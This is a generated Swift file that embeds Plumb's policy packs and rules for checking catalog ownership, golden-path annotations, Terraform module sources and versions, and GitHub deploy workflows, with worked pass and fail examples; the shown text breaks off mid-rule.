// GENERATED FILE. DO NOT EDIT! Run `swift run plumb-generate` to update it.
// Embeds the texts of rules/ and policies/ so the plumb binary is self-contained.
import PlumbPolicy

extension BuiltinPolicies {
  static let embedded: [PolicySource] = [
    PolicySource(
      path: "policies/baseline.plumb",
      text: #"""
      # The packs and scorecards that ship with Plumb. `plumb check` applies `baseline` unless
      # `--pack` or `.plumb.yaml` names another. docs/policy-packs.md describes each pack.

      pack baseline {
        title "Baseline"
        description "What every platform should hold: critical security issues, owners that resolve to groups, the component tags residency depends on and personal data outside its jurisdiction block; other high and medium findings warn; low-severity findings and organisation-specific golden paths are advice."
        # A waiver accepts a risk for a year at most: then someone decides again.
        max_waiver_days 365
        all rules: warn

        # Critical security issues: public data, admin access from anywhere, code injection.
        rule template_injection: block
        rule iam_policy_admin_wildcard: block
        rule iam_policy_document_admin_wildcard: block
        rule rds_publicly_accessible: block
        rule s3_bucket_policy_public: block
        rule resource_policy_public: block
        rule s3_bucket_public_acl: block
        rule security_group_admin_ports_open: block
        rule security_group_all_ports_open: block
        rule azure_nsg_admin_ports_open: block
        rule gcp_bigquery_dataset_public: block
        rule gcp_firewall_admin_ports_open: block
        rule gcp_iam_public_principal: block
        rule gcp_sql_open_to_world: block
        rule gcp_storage_bucket_public_iam: block

        # Low-severity hardening: shown, never fails.
        rule azure_storage_infrastructure_encryption_disabled: advisory
        rule gcp_compute_instance_public_ip: advisory
        rule kms_key_deletion_window_short: advisory
        rule rds_iam_authentication_disabled: advisory
        rule s3_bucket_access_logging_missing: advisory
        rule s3_bucket_encryption_missing: advisory
        rule s3_bucket_encryption_not_kms: advisory
        rule security_group_egress_open: advisory

        # Ownership: owners that resolve to groups, and an org chart without loops, block (every other
        # check routes its findings through them); the rest of the category warns or advises.
        category ownership: warn
        rule component_has_owner: block
        rule owner_is_a_group: block
        rule api_owner_is_a_group: block
        rule resource_owner_is_a_group: block
        rule system_owner_is_a_group: block
        rule group_hierarchy_has_no_cycle: block
        # A misspelt component tag silently exempts a resource from the residency rules.
        rule terraform_component_tag_resolves: block
        rule component_lifecycle_is_allowed: advisory
        rule component_type_is_allowed: advisory
        rule production_component_has_annotations: advisory

        # Residency: personal data and its copies outside the jurisdiction (EU by default) block.
        rule personal_data_in_allowed_regions: block
        rule personal_data_replicas_in_allowed_regions: block
        rule personal_data_in_global_service: warn

        # Golden paths encode one organisation's choices (approved module sources, templates, the
        # shared deploy workflow): advice until a pack sets their parameters.
        category golden_paths: advisory
      }

      pack strict {
        title "Strict"
        description "Everything blocks, inline ignore comments are not accepted, and a waiver runs for 90 days at most."
        inline_ignores forbidden
        max_waiver_days 90
        all rules: block
      }

      pack eu_residency {
        title "EU data residency"
        description "Personal data stays in the EU: resources, replicas and backups of components annotated plumb.dev/data-class: personal must be in EU regions, and global services holding it are named; these block. Ownership, which links resources to those components, warns. Nothing else runs."
        inline_ignores forbidden
        rule personal_data_in_allowed_regions: block { jurisdiction = "EU" }
        rule personal_data_replicas_in_allowed_regions: block { jurisdiction = "EU" }
        rule personal_data_in_global_service: block
        category ownership: warn
      }

      scorecard production_readiness {
        title "Production readiness"
        for c in catalog.Component when c.spec.lifecycle == "production"
        level bronze: component_has_owner, owner_is_a_group
        level silver: bronze, actions_pinned_to_sha, checkout_persist_credentials
        level gold: silver, personal_data_in_allowed_regions
        weight component_has_owner 2
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/catalog/component_has_required_annotations.plumb",
      text: #"""
      rule component_has_required_annotations {
        title "Components carry the annotations their type's golden path requires"
        severity low
        category golden_paths
        tags [catalog, golden-path, annotations]
        rationale """
          Each type of component has a golden path, and the path is visible in annotations: a service
          scaffolded from a template says so (`backstage.io/source-template`), is wired to on-call
          (`pagerduty.com/service-id`), to its docs and its dashboards. Plugins, scorecards and
          incident tooling read these annotations; a component without them is invisible to all of
          them. `required_annotations` lists `type=annotation` pairs (`*` for every type); the default
          requires services and websites to come from a template.
        """
        remediation """
          Add the missing annotations to `metadata.annotations`, or create the component from the
          organisation's template (which writes them) and move the code over.
        """
        param required_annotations: list<string> = ["service=backstage.io/source-template", "website=backstage.io/source-template"]

        for c in catalog.Component
        let required = map(e in filter(e in param.required_annotations,
            first(split(e, "=")) == "*" or first(split(e, "=")) == c.spec.type), last(split(e, "=")))
        when count(required) > 0
        let missing = filter(a in required, is_empty(c.metadata.annotations[a]))
        require count(missing) == 0
          else "${c.spec.type} '${c.metadata.name}' lacks annotation ${join(missing, ", ")}, required for its type"
          at c.metadata.name

        example pass """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata:
            name: payments-api
            annotations: {backstage.io/source-template: "template:default/spring-boot-service"}
          spec: {type: service, lifecycle: production, owner: payments}
        """
        example pass "a library has no requirement by default" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: money}
          spec: {type: library, lifecycle: production, owner: payments}
        """
        example fail "a hand-made service" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: ↓payments-api}
          spec: {type: service, lifecycle: production, owner: payments}
        """ expect "service 'payments-api' lacks annotation backstage.io/source-template, required for its type"
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/catalog/component_matches_source_template.plumb",
      text: #"""
      rule component_matches_source_template {
        title "Components keep the type of the template they were created from"
        severity low
        category golden_paths
        tags [catalog, golden-path, templates]
        rationale """
          A component scaffolded from a Software Template carries `backstage.io/source-template`, and the
          template's `spec.type` says what it creates. Scorecards, required annotations and the
          template's own upgrades (re-running a newer template version) match on that type. A
          component whose type was changed after scaffolding (`service` created, `website` declared), or
          whose template was deleted or renamed, has left the golden path without anyone deciding so.
          The rule runs only when the checked catalog contains templates.
        """
        remediation """
          Restore the type the template creates, or, if the component really is something else now,
          remove the `backstage.io/source-template` annotation and register it as such. Re-register a
          renamed template or fix the annotation to point at it.
        """

        for c in catalog.Component
        when count(catalog.Template) > 0
        let template_ref = c.metadata.annotations["backstage.io/source-template"]
        when not is_empty(template_ref)
        let template_name = last(split(last(split(to_string(template_ref), ":")), "/"))
        let templates = catalog.Template[name(it) == template_name]
        require count(templates) > 0
          else "component '${c.metadata.name}' was created from template '${template_ref}', which is not in the catalog"
          at template_ref
        require count(templates) == 0 or any(t in templates, t.spec.type == c.spec.type)
          else "component '${c.metadata.name}' has type '${c.spec.type}', but its template '${template_name}' creates '${first(templates).spec.type}' components"
          at c.spec.type

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {backstage.io/source-template: "template:default/spring-boot-service"}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "templates/spring-boot.yaml" """
            apiVersion: scaffolder.backstage.io/v1beta3
            kind: Template
            metadata: {name: spring-boot-service}
            spec:
              type: service
              owner: platform
              steps:
                - {id: fetch, action: fetch:template}
          """
        }
        example fail "type changed after scaffolding" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {backstage.io/source-template: "template:default/spring-boot-service"}
            spec: {type: ↓website, lifecycle: production, owner: payments}
          """
          file "templates/spring-boot.yaml" """
            apiVersion: scaffolder.backstage.io/v1beta3
            kind: Template
            metadata: {name: spring-boot-service}
            spec:
              type: service
              owner: platform
              steps:
                - {id: fetch, action: fetch:template}
          """
        } expect "component 'payments-api' has type 'website', but its template 'spring-boot-service' creates 'service' components"
        example fail "template no longer in the catalog" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {backstage.io/source-template: ↓"template:default/java-service"}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "templates/spring-boot.yaml" """
            apiVersion: scaffolder.backstage.io/v1beta3
            kind: Template
            metadata: {name: spring-boot-service}
            spec:
              type: service
              owner: platform
              steps:
                - {id: fetch, action: fetch:template}
          """
        } expect "was created from template 'template:default/java-service', which is not in the catalog"
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/github/deploy_jobs_use_reusable_workflow.plumb",
      text: #"""
      rule deploy_jobs_use_reusable_workflow {
        title "Deploy jobs call the organisation's reusable deploy workflow"
        severity medium
        category golden_paths
        tags [github, golden-path, deployment]
        rationale """
          The deploy path is where the golden path matters most: the organisation's reusable deploy
          workflow holds the OIDC role, the environment protection, the change record, the canary and
          the rollback. A job that deploys with its own steps (`run: ./deploy.sh`) skips all of them,
          and every fix to the shared workflow misses it. Jobs are deploy jobs when their id, name or
          environment matches `deploy_pattern`; they must call (`jobs.<id>.uses`) one of
          `required_reusable_workflows` (`owner/repo/.github/workflows/file.yml`, any ref), or any
          reusable workflow when the list is empty. Jobs of a workflow that is itself only called by
          others (`on: workflow_call`) are the shared path and are not judged.
        """
        remediation """
          Replace the job's steps with a call to the shared workflow:
          `uses: acme/.github/.github/workflows/deploy.yml@<sha>` with its inputs and `secrets`, and
          list that workflow in `required_reusable_workflows` in your pack.
        """
        param deploy_pattern: pattern = "(?i)deploy"
        param required_reusable_workflows: list<string> = []

        for j in github.job
        let wf = first(j -> inWorkflow)
        let environment = default(j.environment.name, j.environment)
        when not (wf.triggers == ["workflow_call"])
        when to_string(j.id) matches param.deploy_pattern
          or (exists(j.name) and to_string(j.name) matches param.deploy_pattern)
          or (exists(environment) and to_string(environment) matches param.deploy_pattern)
        let called = lower(trim(first(split(to_string(default(j.uses, "")), "@"))))
        let expected = default(first(filter(x in [join(param.required_reusable_workflows, " or ")], x != "")), "a reusable workflow")
        let actual = default(first(filter(x in ["calls '" + called + "'"], called != "")), "runs its own steps")
        require exists(j.uses) and (count(param.required_reusable_workflows) == 0
            or any(w in param.required_reusable_workflows, lower(first(split(w, "@"))) == called))
          else "deploy job '${j.id}' ${actual} instead of calling ${expected}"
          at j.id

        example pass """
          on: {push: {branches: [main]}}
          jobs:
            deploy:
              uses: acme/.github/.github/workflows/deploy.yml@0123456789abcdef0123456789abcdef01234567
              with: {environment: production}
              secrets: inherit
        """
        example pass "a build job is not a deploy job" """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
        """
        example fail "a deploy job with its own steps" """
          on: {push: {branches: [main]}}
          jobs:
            ↓deploy-prod:
              runs-on: ubuntu-24.04
              environment: production
              steps:
                - run: ./deploy.sh
        """ expect "deploy job 'deploy-prod' runs its own steps instead of calling a reusable workflow"
        example fail "environment named like a deployment" """
          on: {push: {branches: [main]}}
          jobs:
            ↓ship:
              runs-on: ubuntu-24.04
              environment: {name: deploy-eu, url: "https://eu.example.com"}
              steps:
                - run: ./ship.sh
        """ expect "deploy job 'ship' runs its own steps"
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/terraform/module_not_forked_locally.plumb",
      text: #"""
      rule module_not_forked_locally {
        title "Modules are not copied into the repository"
        severity low
        category golden_paths
        tags [terraform, modules, golden-path]
        rationale """
          A module copied into the repository (`source = "../shared/vpc"`, a vendored fork of the
          platform's module) stops receiving the platform team's fixes the day it is copied, and drifts
          from the golden path without anyone noticing: the next encryption or logging default is
          applied everywhere but there. Unless `allow_local_modules` is set, local module sources are
          reported, except those under `local_module_allowlist` (by default `./modules/`, the usual
          place for a root module's own small submodules).
        """
        remediation """
          Call the platform's published module (`source = "app.terraform.io/acme/vpc/aws"`, `version =
          "~> 2.1"`) instead of a local copy; if the copy exists for a missing feature, contribute it
          upstream. Add genuinely local modules to `local_module_allowlist`.
        """
        param allow_local_modules: bool = false
        param local_module_allowlist: list<string> = ["./modules/"]

        for m in terraform.module
        let parent = first(m -> inModule)
        let source = to_string(m.source)
        when exists(m.source)
        when starts_with(source, "./") or starts_with(source, "../")
        when not exists(parent) or starts_with(to_string(parent.source), "./") or starts_with(to_string(parent.source), "../")
        require param.allow_local_modules or any(p in param.local_module_allowlist, starts_with(source, p))
          else "module '${m.address}' uses the local copy '${source}' instead of a published module"
          at m.source

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.logs.aws_s3_bucket.this", "module_address": "module.logs", "mode": "managed",
             "type": "aws_s3_bucket", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "logs"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "logs": {"source": "./modules/logs",
                      "module": {"resources": [{"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this"}]}}}}}}
        """
        example fail "a copy of a shared module" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.vpc.aws_vpc.this", "module_address": "module.vpc", "mode": "managed",
             "type": "aws_vpc", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"cidr_block": "10.0.0.0/16"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "vpc": {"source": ↓"../../shared/terraform-aws-vpc",
                     "module": {"resources": [{"address": "aws_vpc.this", "mode": "managed", "type": "aws_vpc", "name": "this"}]}}}}}}
        """ expect "module 'module.vpc' uses the local copy '../../shared/terraform-aws-vpc' instead of a published module"
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/terraform/module_source_approved.plumb",
      text: #"""
      rule module_source_approved {
        title "Terraform modules come from approved sources"
        severity medium
        category golden_paths
        tags [terraform, modules, golden-path, supply-chain]
        rationale """
          The platform team's modules (or vetted public ones) encode the golden path: encryption,
          logging, tagging and network defaults that every other rule in this library checks for. A
          module pulled from an arbitrary Git repository or registry namespace bypasses all of it, and
          runs its author's code with the deployment's cloud credentials at plan time (providers,
          `external` data sources). Sources are approved by prefix (`approved_sources`), e.g. your
          private registry `app.terraform.io/acme/` or `git::https://github.com/acme/terraform-`. Local
          modules are judged by `module_not_forked_locally`; modules that an approved module calls
          itself are its author's choice and are not judged.
        """
        remediation """
          Use the approved module for this job (ask the platform team if there is none), or have the
          source reviewed and added to `approved_sources` in your pack.
        """
        param approved_sources: list<string> = ["terraform-aws-modules/", "Azure/", "terraform-google-modules/", "hashicorp/"]

        for m in terraform.module
        let parent = first(m -> inModule)
        let source = to_string(m.source)
        when exists(m.source)
        # Local modules: module_not_forked_locally.
        when not (starts_with(source, "./") or starts_with(source, "../"))
        # Modules called by a module that is not local belong to that module's author.
        when not exists(parent) or starts_with(to_string(parent.source), "./") or starts_with(to_string(parent.source), "../")
        require any(p in param.approved_sources, starts_with(lower(source), lower(p)))
          else "module '${m.address}' comes from '${source}', not an approved source (${join(param.approved_sources, ", ")})"
          at m.source

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.vpc.aws_vpc.this[0]", "module_address": "module.vpc", "mode": "managed",
             "type": "aws_vpc", "name": "this", "index": 0, "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"cidr_block": "10.0.0.0/16"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "vpc": {"source": "terraform-aws-modules/vpc/aws", "version_constraint": "~> 5.0",
                     "module": {"resources": [{"address": "aws_vpc.this", "mode": "managed", "type": "aws_vpc", "name": "this"}]}}}}}}
        """
        example fail "a module from someone's Git repository" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.vpc.aws_vpc.this", "module_address": "module.vpc", "mode": "managed",
             "type": "aws_vpc", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"cidr_block": "10.0.0.0/16"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "vpc": {"source": ↓"git::https://github.com/someone/tf-vpc.git?ref=main",
                     "module": {"resources": [{"address": "aws_vpc.this", "mode": "managed", "type": "aws_vpc", "name": "this"}]}}}}}}
        """ expect "module 'module.vpc' comes from 'git::https://github.com/someone/tf-vpc.git?ref=main', not an approved source"
      }

      """#),
    PolicySource(
      path: "rules/golden-paths/terraform/module_version_approved.plumb",
      text: #"""
      rule module_version_approved {
        title "Terraform modules are pinned to an approved version"
        severity medium
        category golden_paths
        tags [terraform, modules, golden-path, supply-chain]
        rationale """
          A registry module without `version` takes whatever its author published last, including a
          new major version that renames resources (so the next apply destroys and recreates them); a
          Git module at `?ref=main` changes under you between plan and apply. Golden-path modules
          also get security fixes: `minimum_versions` (entries `source=version`, e.g.
          `terraform-aws-modules/s3-bucket/aws=4.1.0`) sets the oldest release each module may be
          pinned to, compared with the lowest version the constraint admits (`~> 4.0` admits 4.0).
          Local modules have no version; modules that a registry module calls itself are pinned by it.
        """
        remediation """
          Pin registry modules with `version = "~> X.Y"` at or above the minimum, and Git modules with
          `?ref=` a release tag (`?ref=v1.4.2`) or a commit SHA.
        """
        param minimum_versions: list<string> = []

        for m in terraform.module
        let parent = first(m -> inModule)
        let source = to_string(m.source)
        when exists(m.source)
        when not (starts_with(source, "./") or starts_with(source, "../"))
        when not exists(parent) or starts_with(to_string(parent.source), "./") or starts_with(to_string(parent.source), "../")
        # Registry addresses: [host/]namespace/name/provider[//subdir].
        let registry = source matches "^([A-Za-z0-9.-]+\\.[A-Za-z]+/)?[A-Za-z0-9_-]+/[A-Za-z0-9_-]+/[A-Za-z0-9_-]+(//.*)?$"
        let git = starts_with(source, "git::") or starts_with(source, "git@") or starts_with(source, "github.com/")
          or starts_with(source, "bitbucket.org/") or source matches "\\.git($|[/?])"
        when registry or git
        let ref = first(split(first(filter(x in [last(split(source, "ref="))], contains(source, "ref="))), "&"))
        let pinned_ref = ref matches "^v?[0-9]+(\\.[0-9]+)*$" or ref matches "^[0-9a-f]{40}$"
        # Without `?ref=…` and `//subdirectory` (the scheme's `://` is not a subdirectory).
        let base = replace(first(split(replace(first(split(source, "?")), "://", "§§"), "//")), "§§", "://")
        let minimum = first(map(e in filter(e in param.minimum_versions, lower(first(split(e, "="))) == lower(base)), last(split(e, "="))))
        let version = default(version_floor(default(m.version_constraint, "")), ref)
        require (registry and exists(m.version_constraint)) or (git and pinned_ref)
          else "module '${m.address}' from '${source}' is not pinned to a version"
          at m.source
        require not exists(minimum) or not exists(version) or version_compare(version, minimum) >= 0
          else "module '${m.address}' allows version ${version} of '${base}', below the approved minimum ${minimum}"
          at default(m.version_constraint, m.source)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.vpc.aws_vpc.this[0]", "module_address": "module.vpc", "mode": "managed",
             "type": "aws_vpc", "name": "this", "index": 0, "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"cidr_block": "10.0.0.0/16"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "vpc": {"source": "terraform-aws-modules/vpc/aws", "version_constraint": "~> 5.0",
                     "module": {"resources": [{"address": "aws_vpc.this", "mode": "managed", "type": "aws_vpc", "name": "this"}]}}}}}}
        """
        example pass "a Git module at a release tag" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.db.aws_db_instance.this", "module_address": "module.db", "mode": "managed",
             "type": "aws_db_instance", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"engine": "postgres"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "db": {"source": "git::https://github.com/acme/terraform-aws-rds.git?ref=v3.2.1",
                    "module": {"resources": [{"address": "aws_db_instance.this", "mode": "managed", "type": "aws_db_instance", "name": "this"}]}}}}}}
        """
        example fail "a registry module without a version" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.vpc.aws_vpc.this", "module_address": "module.vpc", "mode": "managed",
             "type": "aws_vpc", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"cidr_block": "10.0.0.0/16"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "vpc": {"source": ↓"terraform-aws-modules/vpc/aws",
                     "module": {"resources": [{"address": "aws_vpc.this", "mode": "managed", "type": "aws_vpc", "name": "this"}]}}}}}}
        """ expect "module 'module.vpc' from 'terraform-aws-modules/vpc/aws' is not pinned to a version"
        example fail "a Git module on a branch" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "module.db.aws_db_instance.this", "module_address": "module.db", "mode": "managed",
             "type": "aws_db_instance", "name": "this", "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"engine": "postgres"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {
             "db": {"source": ↓"git::https://github.com/acme/terraform-aws-rds.git?ref=main",
                    "module": {"resources": [{"address": "aws_db_instance.this", "mode": "managed", "type": "aws_db_instance", "name": "this"}]}}}}}}
        """ expect "is not pinned to a version"
      }

      """#),
    PolicySource(
      path: "rules/ownership/api_owner_is_a_group.plumb",
      text: #"""
      rule api_owner_is_a_group {
        title "An API's owner is a Group that exists"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          Consumers of an API need someone to ask about breaking changes, deprecations and incidents. An
          API owned by nobody (a typo, a renamed team) or by a departed individual is an API nobody will
          version or retire.
          `spec.owner` must resolve to a Group in the catalog; individual users leave, so a User is
          accepted only where `allow_users` is set.
        """
        remediation "Point `spec.owner` of the API at an existing Group (`owner: group:payments`), or register the Group in the catalog."
        param allow_users: bool = false

        for x in catalog.API
        let owners = x -> ownedBy
        require exists(x.spec.owner) and trim(to_string(x.spec.owner)) != ""
          else "API '${x.metadata.name}' has no spec.owner" at x.spec
        when exists(x.spec.owner)
        require count(owners) > 0
          else "owner '${x.spec.owner}' of API '${x.metadata.name}' does not exist in the catalog" at x.spec.owner
        require all(o in owners, kind(o) == "catalog.Group" or (param.allow_users and kind(o) == "catalog.User"))
          else "API '${x.metadata.name}' is owned by ${join(map(o in owners, id(o)), ", ")}, not a Group" at x.spec.owner

        example pass """
            apiVersion: backstage.io/v1alpha1
            kind: API
            metadata: {name: orders}
            spec: {type: openapi, lifecycle: production, owner: payments, definition: "openapi: 3.0.0"}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
        """
        example fail "no owner" """
            apiVersion: backstage.io/v1alpha1
            kind: API
            metadata: {name: orders}
            spec: ↓{type: openapi, lifecycle: production, definition: "openapi: 3.0.0"}
        """ expect "'orders' has no spec.owner"
        example fail "dangling owner" """
            apiVersion: backstage.io/v1alpha1
            kind: API
            metadata: {name: orders}
            spec: {type: openapi, lifecycle: production, owner: ↓ghosts, definition: "openapi: 3.0.0"}
        """ expect "owner 'ghosts' of"
        example fail "owned by a user" """
            apiVersion: backstage.io/v1alpha1
            kind: API
            metadata: {name: orders}
            spec: {type: openapi, lifecycle: production, owner: ↓user:ana, definition: "openapi: 3.0.0"}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: []}
        """ expect "is owned by catalog:user:default/ana, not a Group"
      }

      """#),
    PolicySource(
      path: "rules/ownership/component_has_owner.plumb",
      text: #"""
      rule component_has_owner {
        title "Components name an owner"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          Every component needs someone to page, to review its changes and to fix its findings. A
          component without `spec.owner` is invisible to scorecards and to on-call rotations.
        """
        remediation "Set `spec.owner` to the Group that runs the component, e.g. `owner: group:payments`."
        # The owner `plumb fix` writes into components that have none (e.g. "group:platform"), set by a
        # policy pack; unset, there is no fix.
        param default_owner: string

        for c in catalog.Component
        require exists(c.spec.owner) and trim(to_string(c.spec.owner)) != ""
          else "component '${c.metadata.name}' has no spec.owner" at c.spec
          fix { set c.spec.owner = param.default_owner }

        example pass """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata:
            name: payments-api
          spec:
            type: service
            lifecycle: production
            owner: group:payments
        """
        example fail "no owner" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata:
            name: payments-api
          spec:
            ↓type: service
            lifecycle: production
        """ expect "component 'payments-api' has no spec.owner"
      }

      """#),
    PolicySource(
      path: "rules/ownership/component_lifecycle_is_allowed.plumb",
      text: #"""
      rule component_lifecycle_is_allowed {
        title "Components use a lifecycle from the organisation's list"
        severity low
        category ownership
        tags [catalog, taxonomy]
        rationale """
          Scorecards, packs and on-call routing select components by lifecycle (`production` must have
          an owner, docs and a system). The catalog accepts any string, so `prod`, `Production` and
          `live` silently fall out of every rule written for `production`: the component is never
          held to the production bar.
        """
        remediation "Use one of the allowed lifecycles (`allowed_lifecycles`), e.g. `lifecycle: production`."
        param allowed_lifecycles: list<string> = ["experimental", "production", "deprecated"]

        for c in catalog.Component
        when exists(c.spec.lifecycle)
        require c.spec.lifecycle in param.allowed_lifecycles
          else "component '${c.metadata.name}' has lifecycle '${c.spec.lifecycle}', not one of ${join(param.allowed_lifecycles, ", ")}"
          at c.spec.lifecycle

        example pass """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: payments-api}
          spec: {type: service, lifecycle: production, owner: payments}
        """
        example fail "an abbreviation" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: payments-api}
          spec: {type: service, lifecycle: ↓prod, owner: payments}
        """ expect "component 'payments-api' has lifecycle 'prod', not one of experimental, production, deprecated"
      }

      """#),
    PolicySource(
      path: "rules/ownership/component_type_is_allowed.plumb",
      text: #"""
      rule component_type_is_allowed {
        title "Components use a type from the organisation's list"
        severity low
        category ownership
        tags [catalog, taxonomy]
        rationale """
          Component types decide which golden path, scorecard and required annotations apply (a
          `service` needs an on-call rotation, a `library` does not). The catalog accepts any string,
          so `Service`, `svc` or `micro-service` escape every rule written for `service`.
        """
        remediation "Use one of the allowed types (`allowed_types`), or add the new type to the list in your pack."
        param allowed_types: list<string> = ["service", "website", "library", "documentation", "tool"]

        for c in catalog.Component
        when exists(c.spec.type)
        require c.spec.type in param.allowed_types
          else "component '${c.metadata.name}' has type '${c.spec.type}', not one of ${join(param.allowed_types, ", ")}"
          at c.spec.type

        example pass """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: payments-api}
          spec: {type: service, lifecycle: production, owner: payments}
        """
        example fail "a synonym" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: payments-api}
          spec: {type: ↓micro-service, lifecycle: production, owner: payments}
        """ expect "component 'payments-api' has type 'micro-service', not one of service, website"
      }

      """#),
    PolicySource(
      path: "rules/ownership/gitlab_pipeline_belongs_to_owned_component.plumb",
      text: #"""
      rule gitlab_pipeline_belongs_to_owned_component {
        title "GitLab pipelines belong to a catalog component with an owner"
        severity medium
        category ownership
        tags [gitlab, catalog, cross-source]
        rationale """
          A pipeline deploys, publishes and holds CI/CD variables; when it breaks or leaks, someone must
          answer for it. Plumb links each `.gitlab-ci.yml` to the catalog Components of its repository
          (`p -> belongsTo`: by the repository in `.plumb.yaml` and the components' project-slug or
          source-location annotation, else the catalog file nearest above the pipeline). A pipeline that
          belongs to no component, or only to components whose owner does not exist, has no accountable
          team. The rule runs only when a catalog was checked along with the pipelines.
        """
        remediation """
          Register the project's component in a `catalog-info.yaml` at the repository root (or set
          `repository:` in `.plumb.yaml` and the component's `gitlab.com/project-slug` annotation), and
          give it an owner that exists.
        """

        for p in gitlab.pipeline
        when count(catalog.Component) > 0
        let components = p -> belongsTo
        require count(components) > 0
          else "pipeline '${file(p)}' belongs to no catalog component"
        require count(components) == 0 or any(c in components, count(c -> ownedBy) > 0)
          else "pipeline '${file(p)}' belongs to ${join(map(c in components, name(c)), ", ")}, which has no owner in the catalog"

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
          """
          file ".gitlab-ci.yml" """
            test:
              script: make test
          """
        }
        example fail "no component in the repository" {
          file "services/api/catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file ".gitlab-ci.yml" """
            ↓test:
              script: make test
          """
        } expect "pipeline '.gitlab-ci.yml' belongs to no catalog component"
        example fail "the component's owner does not exist" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: ghosts}
          """
          file ".gitlab-ci.yml" """
            ↓test:
              script: make test
          """
        } expect "belongs to payments-api, which has no owner in the catalog"
      }

      """#),
    PolicySource(
      path: "rules/ownership/group_has_members_or_children.plumb",
      text: #"""
      rule group_has_members_or_children {
        title "Groups have members or child groups"
        severity medium
        category ownership
        tags [catalog, ownership]
        rationale """
          Ownership resolves to people through groups: a Group with no members and no child groups is an
          owner that pages no one. It is what is left after a reorganisation moved everyone out, or a
          team created for a component and never staffed; every component it owns is effectively
          unowned, although `owner_is_a_group` passes.
        """
        remediation """
          Add the team's members (`spec.members`, or `memberOf` on the Users) or its sub-teams
          (`spec.children`), or move what the Group owns to a staffed Group and delete it.
        """
        param exempt_types: list<string> = []

        for g in catalog.Group
        when g.spec.type not in param.exempt_types
        require count(g -> hasMember) > 0 or count(g -> parentOf) > 0
          else "group '${g.metadata.name}' has no members and no child groups: what it owns reaches no one" at g.metadata.name

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: [], members: [ana]}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: engineering}
            spec: {type: department, children: [payments]}
          """
        }
        example pass "members declared on the users" {
          file "catalog-info.yaml" """
